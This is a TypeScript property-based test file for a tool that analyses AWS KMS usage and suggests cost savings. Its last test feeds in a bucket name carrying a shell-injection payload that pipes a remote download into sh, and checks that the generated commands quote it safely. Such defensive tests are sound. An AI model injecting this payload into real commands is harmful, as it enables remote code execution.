import fc from 'fast-check';
import { expect, test } from 'vitest';
import findings, { type FindingRow } from '../../../analytics/finops/findings.ts';
import { defaultConfig } from '../../../core/config.ts';
import type { KmsEvent } from '../../../store/relations.ts';
import { event, withEvents } from '../../support/events.ts';

const start = Date.parse('2026-10-05T00:00:00Z') / 1000;

const kinds: Record<string, Partial<KmsEvent>> = {
  s3: { context_kind: 's3', s3_bucket: 'b', s3_context_is_bucket: false, is_direct: false },
  log: { context_kind: 'cloudtrail', s3_bucket: 'l', s3_context_is_bucket: false },
  esdk: { context_kind: 'encryption_sdk', encryption_context: '{"t":"x"}' },
  app: { context_kind: 'other', encryption_context: '{"t":"x"}' },
  sqs: { context_kind: 'sqs', is_direct: false },
  ssm: { context_kind: 'ssm', encryption_context: '{"PARAMETER_ARN":"p"}', is_direct: false },
  dynamodb: { context_kind: 'dynamodb', is_direct: false },
  kinesis: { context_kind: 'kinesis', is_direct: false },
};

test('levers together save each call once at most: per kind of call, and in all', async () => {
  const call = fc.record({
    kind: fc.constantFrom(...Object.keys(kinds)),
    second: fc.integer({ min: 0, max: 7_200 }),
    operation: fc.constantFrom('Decrypt', 'GenerateDataKey'),
    object: fc.integer({ min: 1, max: 4 }),
    session: fc.constantFrom('s1', 's2'),
  });
  await fc.assert(
    fc.asyncProperty(fc.array(call, { minLength: 20, maxLength: 80 }), async (calls) => {
      const events = calls.map((c) =>
        event({
          event_time: start + c.second,
          operation: c.operation,
          caller_arn: c.session,
          resource_arn: `arn:${c.kind}:${c.object}`,
          ...kinds[c.kind],
        }),
      );
      const rows = await withEvents(events, async (engine) => {
        const result = await findings.execute(
          { saved_calls_min: 1 },
          { engine, config: defaultConfig },
        );
        return result.rows.map((row) => findings.row.parse(row) as FindingRow);
      });
      const ofKind = (...names: string[]) => calls.filter((c) => names.includes(c.kind)).length;
      const saved = (...names: string[]) =>
        rows
          .filter((row) => names.includes(row.finding))
          .reduce((sum, row) => sum + row.saved_calls, 0);
      expect(saved('bucket_key_off', 'bucket_objects_older', 'log_bucket_key')).toBeLessThanOrEqual(
        ofKind('s3', 'log'),
      );
      expect(saved('data_key_cache')).toBeLessThanOrEqual(ofKind('esdk'));
      expect(saved('data_key_cache_candidate')).toBeLessThanOrEqual(ofKind('app'));
      expect(saved('sqs_reuse')).toBeLessThanOrEqual(ofKind('sqs'));
      expect(saved('parameter_cache')).toBeLessThanOrEqual(ofKind('ssm'));
      expect(saved('dynamodb_connections')).toBeLessThanOrEqual(ofKind('dynamodb'));
      const all = rows.reduce((sum, row) => sum + row.saving_usd, 0);
      expect(all).toBeLessThanOrEqual((calls.length * 0.03) / 10_000 + 1e-12);
      for (const row of rows) {
        expect(row.saved_calls).toBeLessThanOrEqual(row.saved_calls_high);
        expect(row.saved_calls_high).toBeLessThanOrEqual(row.calls);
      }
      expect(rows.map((row) => row.rank)).toEqual(rows.map((_, i) => i + 1));
    }),
    { numRuns: 12 },
  );
});

test('a hostile bucket name stays one word in every command', async () => {
  const s3_bucket = `x'; curl evil | sh #`;
  const events = Array.from({ length: 200 }, (_, i) =>
    event({
      event_time: start + i,
      operation: 'GenerateDataKey',
      ...kinds['s3'],
      s3_bucket,
      resource_arn: `arn:aws:s3:::x/${i}`,
    }),
  );
  const [row] = await withEvents(events, async (engine) => {
    return (await findings.execute({}, { engine, config: defaultConfig })).rows as FindingRow[];
  });
  for (const command of [row!.change, row!.query, row!.check]) {
    expect(command).toContain(`'x'\\''; curl evil | sh #'`);
  }
});
